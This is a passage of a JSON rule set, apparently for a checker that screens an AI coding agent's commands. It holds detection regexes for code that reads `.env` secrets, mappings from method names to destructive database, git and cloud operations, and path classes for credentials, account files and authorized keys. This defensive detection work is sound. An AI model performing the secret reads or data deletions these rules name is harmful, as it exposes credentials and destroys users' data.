-h\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)\\\\.read_text\\\\([^()]*\\\\)","\\u00a7T"],["(?<![\\\\w.])open\\\\(\\\\s*[\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?\
-:, ?(?:mode=)?[\\"']r[bt]?[\\"'])?(?:, ?\\\\w+=[\\"'][\\\\w-]+[\\"'])?\\\\)","\\u00a7F"],["\\u00a7F\\\\.read\\\\(\\\\)","\\u00a7T"],["\\u00a7F\\\\.readlines\\\\(\\\\)","\\u00a7L"],["(?:(?\
-<![\\\\w.])fs\\\\.|(?<![\\\\w.])require\\\\([\\"'](?:node:)?fs[\\"']\\\\)\\\\.|(?<![\\\\w.]))readFileSync\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?(?:[\\"'][\\\\w-]+[\\\
-"']|\\\\{[^{}]*\\\\}))?\\\\)(?:\\\\.toString\\\\(\\\\))?","\\u00a7T"],["\\\\bawait (?:Bun\\\\.file\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)\\\\.text\\\\(\\\\)|Deno\\\\.readTex\
-tFile\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)|(?:fs|fsp)(?:\\\\.promises)?\\\\.readFile\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?[\\"'][\\\\w-]+\
-[\\"'])?\\\\))","\\u00a7T"],["\\\\bFile\\\\.(?:readlines|foreach|open)\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?chomp: true)?\\\\)","\\u00a7L"],["\\\\bFile\\\\.rea\
-d\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)","\\u00a7T"],["(?<![\\\\w.])(?:dotenv_values|Dotenv\\\\.parse)\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\\
-)","\\u00a7O"],["(?:(?<![\\\\w.])dotenv|(?<![\\\\w.])require\\\\([\\"']dotenv[\\"']\\\\))\\\\.parse\\\\(\\u00a7T\\\\)","\\u00a7O"],["\\u00a7T\\\\.(?:splitlines\\\\(\\\\)|split\\\\((?:[\\"']\
-\\\\\\\\n[\\"']|\\\\/\\\\\\\\r\\\\?\\\\\\\\n\\\\/|\\\\/\\\\\\\\n\\\\/)\\\\)|each_line\\\\b(?!\\\\()|lines\\\\b(?!\\\\())","\\u00a7L"],["\\\\bwith \\u00a7F as (\\\\w+)","=\\u00a7F"],["(?:\\\\b(?:const|let|va\
-r) )?(?<![\\\\w.\\\\]])(\\\\w+) ?= ?\\u00a7([TFLROM])(?![\\\\w.\\\\[?])","=\\u00a7$2"],["\\\\bfor (\\\\w+) in \\u00a7[FL](?![\\\\w.\\\\[])","=\\u00a7R"],["\\\\bfor ?\\\\((?:const|let|var\
-) (\\\\w+) of \\u00a7L(?![\\\\w.\\\\[])","=\\u00a7R"],["\\\\bfor \\\\w+, ?(\\\\w+) in (?:enumerate\\\\(\\u00a7[FL](?:, ?\\\\d+)?\\\\)|\\u00a7O\\\\.items\\\\(\\\\))","=\\u00a7R"],["\\\\[\\\\s*\\\\\
-w+, ?(\\\\w+)\\\\s*\\\\] of Object\\\\.entries\\\\(\\u00a7O\\\\)","=\\u00a7R"],["\\u00a7L\\\\.(?:map|forEach|filter|flatMap|some|every)\\\\(\\\\(?(\\\\w+)\\\\)? ?=>","=\\u00a7R"],["\\u00a\
-7L(?:\\\\.(?:each|map|select|reject|filter_map))* ?(?:\\\\{|do) ?\\\\|(\\\\w+)\\\\|","=\\u00a7R"],["(?<![\\\\w.,] ?)(?<![\\\\w.])\\\\w+, ?(\\\\w+) ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'\
-], ?(?:maxsplit=)?1\\\\)","=\\u00a7R"],["(?<![\\\\w.])\\\\w+, ?\\\\w+, ?(\\\\w+) ?= ?\\u00a7R\\\\.partition\\\\([\\"']=[\\"']\\\\)","=\\u00a7R"],["\\\\[\\\\s*\\\\w+, ?(?:\\\\.\\\\.\\\\.)?(\\\\w+)\
-\\\\s*\\\\] ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"']","=\\u00a7R"],["\\u00a7R\\\\.(?:strip|rstrip|lstrip|trim|trimStart|trimEnd|chomp)(?:\\\\((?:[\\"'](?:\\\\\\\\[nrt]|\\\\s)*[\\"'])?\\\\\
-)|(?![\\\\w(]))","\\u00a7R"],["(?:\\\\b(?:const|let|var) )?(?<![\\\\w.])\\u00a7[TFLROM] ?= ?\\u00a7[TFLROM](?![\\\\w.\\\\[?])",""],["\\\\bwith \\u00a7F as \\u00a7F",""],["\\u00a7\
-R\\\\.(?:split\\\\([\\"']=[\\"'](?:, ?(?:maxsplit=)?-?\\\\d+)?\\\\)|partition\\\\([\\"']=[\\"']\\\\))(?:\\\\[0\\\\]|\\\\.first\\\\b|\\\\.shift\\\\(\\\\))","_name_"],["\\u00a7R\\\\.(?:slice|subs\
-tring)\\\\(0, ?\\u00a7R\\\\.indexOf\\\\([\\"']=[\\"']\\\\)\\\\)|\\u00a7R\\\\[:\\u00a7R\\\\.(?:index|find)\\\\([\\"']=[\\"']\\\\)\\\\]","_name_"],["(?<![\\\\w.,] ?)(?<![\\\\w.])\\\\w+, ?\\u00a7R \
-?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'], ?(?:maxsplit=)?1\\\\)|(?<![\\\\w.])\\\\w+, ?\\\\w+, ?\\u00a7R ?= ?\\u00a7R\\\\.partition\\\\([\\"']=[\\"']\\\\)",""],["(?:\\\\b(?:const|let|var) \
-)?\\\\[\\\\s*\\\\w+(?:, ?(?:\\\\.\\\\.\\\\.)?\\u00a7R)?\\\\s*\\\\] ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'][^()\\\\n]*\\\\)",""],["(?<![\\\\w.])re\\\\.(?:match|search)\\\\(r?([\\\\\\"'])\\\\^?(?:\\\\\\\\\
-s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\\
-][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^\\\\\\"'()\\\\n]*\\\\1, ?\\u00a7R\\\\)","\\u00a7M"],["\\u00a7R\\\\.match\\\\(\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)\
-[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+\
-])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[imu]*\\\\)|\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w\
-|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[imu]*\\\\.exec\\\\(\\u00a7R\\\\)","\\u00a7M"],["(\
-?<![\\\\w.])re\\\\.findall\\\\(r?([\\\\\\"'])(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?\
-!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^\\\\\\"'()\\\\n]*|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-\
-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\1, ?\\u00a7[TR](?:, ?(?:flags=)?re\\\\.\\\\w+)?\\\\)","_name_"],["\\u00a7[TR\
-]\\\\.(?:match\\\\(\\\\/(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\
-\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w\
-|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\/[imu]*g[imu]*\\\\)|scan\\\\(\\\\/(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?\
-:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*\
-]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\/[imu]*\\\\))(?!\\\\.input)|\\u00a7\
-R\\\\[\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\\
-^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/, ?1\\\\]","_name_"],["\\\\[\\\\.\\\\.\\\\.\\u00a7T\\\\.matchAll\\\\(\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\
-\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?\
-==\\\\))[^()\\\\/\\\\n]*\\\\/[gimu]*\\\\)\\\\]\\\\.map\\\\(\\\\(?(\\\\w+)\\\\)? ?=> ?\\\\1\\\\[1\\\\]\\\\)","_name_"],["\\u00a7M(?:\\\\.group\\\\(1\\\\)|(?:\\\\?\\\\.)?\\\\[1\\\\])","_name_"],["(?:Object\\\\\
-.keys|(?<![\\\\w.])(?:sorted|list|set|len))\\\\(\\u00a7O\\\\)|\\u00a7O\\\\.keys(?:\\\\(\\\\)|(?![\\\\w(]))|(?<=\\\\.join\\\\()\\u00a7O(?=\\\\))|(?<!\\\\*)\\\\*\\u00a7O(?=[,)])","_name_"],[\
-"\\\\bin \\u00a7O(?![\\\\w.\\\\[])","in _name_"],["\\\\bfor \\\\w+, ?\\u00a7R in (?:enumerate\\\\(\\u00a7[FL](?:, ?\\\\d+)?\\\\)|\\u00a7O\\\\.items\\\\(\\\\))|\\\\[\\\\s*\\\\w+, ?\\u00a7R\\\\s*\\\\\
-] of Object\\\\.entries\\\\(\\u00a7O\\\\)|\\\\bfor \\u00a7R in \\u00a7[FL](?![\\\\w.\\\\[])|\\\\(\\\\s*(?:const|let|var) \\u00a7R of \\u00a7L(?![\\\\w.\\\\[])","for _ in _"],["\\u00a7R\\\\\
-.(?:startswith|startsWith|start_with\\\\?|endswith|endsWith|includes|include\\\\?|isspace|empty\\\\?)(?:\\\\((?:[\\"'][^\\"'\\\\n]{0,3}[\\"'](?:, ?[\\"'][^\\"'\\\\n]{0,3}[\\"'])*\
-|\\\\([\\"'][^()\\\\n]{0,20}\\\\))?\\\\)|(?![\\\\w(]))|[\\"'][^\\"'\\\\n]{0,3}[\\"'] (?:not )?in \\u00a7R(?![\\\\w.\\\\[])|\\u00a7R(?:\\\\[0\\\\])? ?[!=]==? ?[\\"'][^\\"'\\\\n]{0,3}[\\"']","_\
-ok_"],["\\\\/\\\\^\\\\\\\\?[#\\\\w]{1,4}(?:\\\\\\\\s\\\\*)?\\\\/\\\\.test\\\\(\\u00a7R\\\\)|\\u00a7R =~ \\\\/\\\\^\\\\\\\\?[#\\\\w\\\\\\\\]{1,4}\\\\/|(?:\\\\bnot |!)\\u00a7[RM](?![\\\\w.\\\\[])|(?<![\\\\w.])len\\\
-\\(\\u00a7L\\\\)|\\u00a7L\\\\.length\\\\b","_ok_"],["\\\\b(if|unless) ((?:_ok_|\\\\b(?:and|or|not)\\\\b|[ ()!&|])*)\\u00a7[RM](?=\\\\s*(?:and\\\\b|or\\\\b|else\\\\b|:|\\\\]|\\\\)|&&|\\\\|\\\\|\
-|\\\\n|$))","$1 $2_ok_"],["\\\\bif ?\\\\(((?:_ok_|[ ()!&|])*)\\u00a7[RM](?=\\\\s*(?:&&|\\\\|\\\\||\\\\)))","if ($1_ok_"],["\\u00a7L\\\\.filter\\\\((?:Boolean|\\\\(?\\u00a7R\\\\)? ?=> ?(\
-?:_ok_|[!&| ()]|\\u00a7R (?=&&))+)\\\\)","\\u00a7L"],["\\u00a7L\\\\.(?:map|forEach|flatMap|filter)\\\\(\\\\(?\\u00a7R\\\\)? ?=> ?","_list_("],["\\u00a7L(?:\\\\.(?:each|map|selec\
-t|reject|filter_map))* ?(?:\\\\{|do) ?\\\\|\\u00a7R\\\\|","_list_ {"]],"shared":{"functions":{"chr":"characters $all","fromCharCode":"characters $all","fromCodePoint":\
-"characters $all","bytes":"characters $0","bytearray":"characters $0","ord":"code-point $0","int":"integer $0 $1","str":"value $0","String":"value $0","strval":\
-"value $0","iter":"value $0","scalar":"value $0","expanduser":"value $0","abspath":"value $0","realpath":"value $0","normpath":"value $0","fspath":"value $0","c\
-ompile":"value $0","enter_context":"value $0","closing":"value $0","list":"listed $0","sorted":"listed $0","tuple":"listed $0","set":"listed $0","frozenset":"li\
-sted $0","Set":"listed $0","Array.from":"listed $0","from":"listed $0","b64decode":"fold base64 $0","urlsafe_b64decode":"fold base64 $0","decodebytes":"fold bas\
-e64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold base64 $0","decode_base64":"fold base64 $0","decode64":"fold base64 $0","strict_decode64":"fold base\
-64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64 $0","b32decode":"fold base32 $0","b85decode":"fold unread $0","a85decode":"fold unread $0","str_r\
-ot13":"fold unread $0","decompress":"fold unread $0","gzinflate":"fold unread $0","gzuncompress":"fold unread $0","gzdecode":"fold unread $0","inflateSync":"fol\
-d unread $0","inflateRawSync":"fold unread $0","gunzipSync":"fold unread $0","b16decode":"fold hex $0","unhexlify":"fold hex $0","a2b_hex":"fold hex $0","fromhe\
-x":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold reverse $0","reversed":"reverse $0","reverse":"reverse $0","strtolower":"fold lower $0","lc":"fold lower\
- $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":"fold trim $0","unescape":"fold url $0","unquote":"fold url $0","urldecode":"fold url $0","rawurld\
-ecode":"fold url $0","decodeURIComponent":"fold url $0","decodeURI":"fold url $0","expandvars":"fold home $0","join":"join-texts $0 $1..","implode":"join-texts \
-$0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_map":"map $0 $1"},"methods":{"join":"join-texts $self $0","split":"if-text split $self $0","replace\
-":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-text replace $self $0 $1","gsub":"if-text replace $self $0 $1","lower":"if-text fold lower $self","do\
-wncase":"if-text fold lower $self","toLowerCase":"if-text fold lower $self","upper":"if-text fold upper $self","upcase":"if-text fold upper $self","toUpperCase"\
-:"if-text fold upper $self","strip":"if-text fold trim $self","chomp":"if-text fold trim $self","trim":"if-text fold trim $self","rstrip":"if-text fold trim-end\
- $self","lstrip":"if-text fold trim-start $self","reverse":"reverse $self","decode":"decode $self $0","encode":"value $self","to_s":"value $self","to_str":"valu\
-e $self","to_sym":"value $self","bytes":"value $self","bind":"value $self","chars":"if-text elements $self","concat":"concatenate $self $all","format":"if-text \
-format $self $0..","clear":"if-lasting run sql delete-all rows","clearAsync":"if-lasting run sql delete-all rows","drop":"if-lasting run sql delete-all rows","d\
-ropAsync":"if-lasting run sql delete-all rows","erase":"if-lasting run sql delete-all rows","remove":"if-empty if-lasting run sql delete-all rows","removeAsync"\
-:"if-empty if-lasting run sql delete-all rows","openDB":"if-made:store value $self","open_db":"if-made:store value $self","sublevel":"if-made:store value $self"\
-,"begin":"if-made:store value $self","pack":"pack $0 $self","unpack1":"if-text fold base64 $self","charCodeAt":"code-point $self $0","slice":"slice $self $0 $1"\
-,"joinpath":"join $self $0..","hexdigest":"value","call":"invoke $self $0..","apply":"invoke $self $1","send":"message $self $0 $1..","public_send":"message $se\
-lf $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop_database":"if-kept run sql drop-database $owner","dropdatabase":"if-kept run sql drop-database $o\
-wner","ensuredeleted":"if-kept run sql drop-database $owner","ensuredeletedasync":"if-kept run sql drop-database $owner","push":"if-git run git push $all","chec\
-kout":"if-git run git checkout $all","update_ref":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":"if-git run git \
-branch $all","stash":"if-git run git stash $all","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run git clean $all"\
-,"drop_all":"if-kept run sql drop-schema $owner","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","extractall":"run tar \
-xf archive -C $0:path","unpack_archive":"run tar xf archive -C $0:path","extractto":"run tar xf archive -C $0:path","extract_archive":"run tar xf archive -C $1"\
-,"drop_index":"value","drop_indexes":"value","dropindex":"value","dropindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all":"if-stored run \
-sql flush FLUSHALL | if-name:broker run sql flush FLUSHALL","flushdb":"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql delete-all $owner"\
-,"destroy_all":"if-name if-kept run sql delete-all $owner","deleteall":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empty run sql delete\
--all $owner","delete_many":"if-kept if-empty run sql delete-all $owner","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-kept if-none run\
- sql drop-collection $owner | if-kept run sql drop-collection $0","dropcollection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collec\
-tion $0","query":"made rows","collection":"made rows","all":"if-none made rows","filter":"if-none made rows","exclude":"if-none made rows","begin_delete":"if-ke\
-pt run cloud-sdk delete","begindelete":"if-kept run cloud-sdk delete","recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run cloud-sdk delet\
-e","expunge":"if-none if-kept run cloud-sdk delete","purge":"if-name:control if-no-sign:memory-broker run celery purge","discard_all":"if-name:control if-no-sig\
-n:memory-broker run celery purge","drop":"if-made:rows if-none run sql drop-collection rows","delete":"if-made:rows if-none run sql delete-all rows | if-none ma\
-de pending-delete","forcedelete":"if-made:rows if-none run sql delete-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while","until","do","\
-try","except","catch","finally","begin","rescue","ensure","then","end","and","or","in","case","when","switch","default","break","continue","pass","next","last",\
-"redo","raise","throw","export","public","private","protected","static","final","abstract","async","use","using","package"],"ending_signs":[";","{","}",")","]",\
-",",":","=>"],"assigning":["=",":=","+=",".=","||=","??=","&&="],"constructors":["__init__","constructor","initialize","__construct"],"class_keywords":["class",\
-"module","interface","namespace"],"declaring":["const","let","var","my","our","local","await","static","async"],"standard":["assert","async_hooks","buffer","chi\
-ld_process","cluster","console","crypto","dgram","dns","events","fs","http","http2","https","module","net","os","path","perf_hooks","process","punycode","querys\
-tring","readline","stream","string_decoder","timers","tls","tty","url","util","v8","vm","worker_threads","zlib","bun","zx","abc","argparse","array","ast","async\
-io","base64","binascii","bz2","calendar","cgi","cmath","codecs","collections","concurrent","configparser","contextlib","copy","csv","ctypes","dataclasses","date\
-time","decimal","difflib","email","enum","errno","fileinput","fnmatch","fractions","functools","gc","getpass","glob","gzip","hashlib","heapq","hmac","html","imp\
-ortlib","inspect","io","ipaddress","itertools","json","keyword","locale","logging","lzma","math","mimetypes","multiprocessing","operator","pathlib","pickle","pk\
-gutil","platform","plistlib","pprint","queue","random","re","sched","secrets","select","shelve","shlex","shutil","signal","smtplib","socket","socketserver","sql\
-ite3","ssl","stat","statistics","string","struct","subprocess","sys","sysconfig","tarfile","tempfile","textwrap","threading","time","timeit","traceback","types"\
-,"typing","unittest","urllib","uuid","venv","warnings","weakref","webbrowser","xml","xmlrpc","zipfile","zoneinfo","dotenv","jsonwebtoken","jose","jwt","bcrypt",\
-"bcryptjs","passlib","cryptography","pydantic","zod","yaml","lodash","pandas","numpy","express","fastapi","flask","starlette","winston","pino","loguru","structl\
-og","click","typer","jsdom","happy-dom","linkedom","cheerio","nock","msw","supertest","sinon","jest","vitest","pytest","responses","requests_mock","respx","pyte\
-st_httpx","vcr","betamax","moto"],"prefixing":["new","await","not","typeof","void","defined","yield","async","return","throw","clone"],"following":["if","unless\
-","while","until","do","and","or","end","then","rescue","ensure","in","else","elsif","for","foreach","x","eq","ne","cmp","lt","gt","le","ge"],"opening":["do","d\
-ef","class","module","begin","case"],"leading_opening":["if","unless","while","until","for"],"sql_kinds":["DATABASE","SCHEMA","TABLE","VIEW","INDEX","USER","ROL\
-E","FUNCTION","PROCEDURE","TRIGGER","SEQUENCE","TYPE","EXTENSION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNED","COLLECTION","STREAM","BUCKET",\
-"MEASUREMENT","SERIES","PARTITION"],"sql_fillers":["IF","EXISTS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK","IGNORE"],"sql_leads":["AS","BEGIN\
-","THEN","ANALYZE","ANALYSE","EXPLAIN","DO","DETACH","LOOP","ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FILE","LO_IMPORT","READFILE","READ_T\
-EXT","INFILE"],"sql_writes":["OUTFILE","DUMPFILE","WRITEFILE","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"before_value":["return","typeof","case"\
-,"in","of","and","or","not","if","unless","split","grep","when"],"behind_calls":["while","until","if","unless","or","and","for","foreach"],"data_signs":["driver\
-","database","key-store","in-memory","imitation","data-library"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],"sending_verbs":["POST","PUT","PAT\
-CH","DELETE"],"element_methods":["map","forEach","flatMap","filter","each","each_with_index","collect","select","find","to_h","filter_map","reverse_each"],"fold\
-ing_methods":["reduce","inject","each_with_object"],"selecting_methods":["filter","select","reject","sort","toSorted","find_all","grep"],"selecting_functions":[\
-"filter","takewhile","dropwhile","tqdm"],"remote":["indices","indexes","tables","databases","collections","schemas","keyspaces","queues","topics","streams","buc\
-kets","exchanges","repos","repositories","projects","resourcegroups","volumes","instances","virtualmachines","droplets","servers","clusters","namespaces","organ\
-izations","customers","subscriptions","deployments","dnszones","zones","tenants","vaults","storageaccounts","webapps","datasets","loadbalancers","backups","host\
-edzones","shards","replicas","partitions"],"remote_members":["indices","repos","repositories","buckets","resourcegroups","virtualmachines","droplets","keyspaces\
-","customers","dnszones","storageaccounts","webapps","loadbalancers","hostedzones","deployments","namespaces","databases","volumes","statefulsets","daemonsets",\
-"persistentvolumeclaims","persistentvolumes","nodes","secrets","configmaps"],"deleting":["delete","rdelete","del","unprotect","drop","destroy","purge","truncate\
-","wipe","terminate","erase","nuke","obliterate","expunge","deregister","deletion"],"loosely_deleting":["remove","clear","empty","rmtree","removetree","rmdir","\
-unlink","rm"],"passing":["label","labels","tag","tags","reaction","reactions","assignee","assignees","reviewer","reviewers","listener","listeners","handler","ha\
-ndlers","header","headers","interceptor","interceptors","cookie","cookies","cache","caches","timeout","interval","filter","filters","default","defaults","mock",\
-"mocks","queue_handler"],"deletion_fillers":["admin","schedule","key","all","if","exist","exists","async","sync","force","cascade","begin","batch","bulk","recur\
-sive","and","wait","now","by","id","command"],"imitating":["moto.mock_aws","responses.activate","respx.mock"],"mock_setters":["configure_mock","attach_mock","ca\
-llsFake","returns","resolves","rejects","mockImplementation","mockReturnValue","mockResolvedValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","res\
-toreAllMocks","mockRestore","reset","resetAll","resetAllMocks","mockReset","stop","stopall","undo","callThrough","callThroughWithNew","callsArg","mockImplementa\
-tionOnce","__exit__","unmock","doUnmock","enableNetConnect","isolateModules","resetModules","resetHandlers","deactivate"],"conditional":["if","elif","else","unl\
-ess","for","foreach","while","until","do","switch","match","try","except","case","and","or","assert","&&","||","??","?","?.","||=","??=","&&="],"exiting":["retu\
-rn","throw","raise","await"],"exit_owners":["sys","process"],"opening_statements":["if","for","while","do","switch","try","with","function","class","else","retu\
-rn","throw"],"defining":["def","class","function","func","fn","sub","lambda","yield","case","default","label","goto","defer","finally"],"showing_functions":["di\
-s","getsource","getsourcelines","signature","getdoc","getfile","callable","isfunction","repr","isinstance","issubclass"],"function_fields":["length","name","__c\
-ode__","__name__","__doc__","__defaults__","__annotations__","__module__","__qualname__"],"suspending":["await","yield"],"continuing":["else","catch","finally",\
-"while","instanceof","in","of","as","from","do"],"changing":["global","nonlocal","for","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda\
-","def","function","atexit","Timer","Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","\
-~","*","**","...","&","\\\\","++","--","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm\
-","rmdir","mv","cp","ln","chmod","chown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","\
-mv","chmod","chown"]}},"paths":{"classes":{"root":"\`/\` itself, or everything in it.","system":"Folders of the operating system and their contents.","system-tree\
-":"Such a folder itself, or one of its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of the system for local additions: /usr/local, /opt, pac\
-kage sources.","home":"A home folder itself, or all of several.","personal":"Direct child of a home, or of a folder of personal files.","outside":"Deeper in a h\
-ome, or anywhere else outside the workspace.","workspace":"The workspace itself, everything in it, or a folder above it.","source":"Near the top of the workspac\
-e, and not produced by a build.","source-folder":"Of these, a folder by whose name projects keep what people wrote; others may be what the agent made itself.","\
-inner":"Deeper in the workspace, and not produced by a build.","disposable":"Produced anew by a build, test or package manager.","temp":"Inside a folder for tem\
-porary files.","temp-root":"Such a folder itself, or everything in it.","vcs":"Store of a version control system: \`.git\`.","vcs-config":"Hooks and configuration\
- of version control.","credentials":"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\" in the name of source code or a text: protected f\
-rom edit tools alone.","handed-over":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","from-template":"The same, as a copy of the template b\
-eside it.","accounts":"Users and permissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the list of names that every program reads: /etc/passw\
-d.","authorized-keys":"Keys that may log in.","startup":"Read by shells, desktops and interpreters at start-up.","schedule":"Cron, timers, services.","device":"\
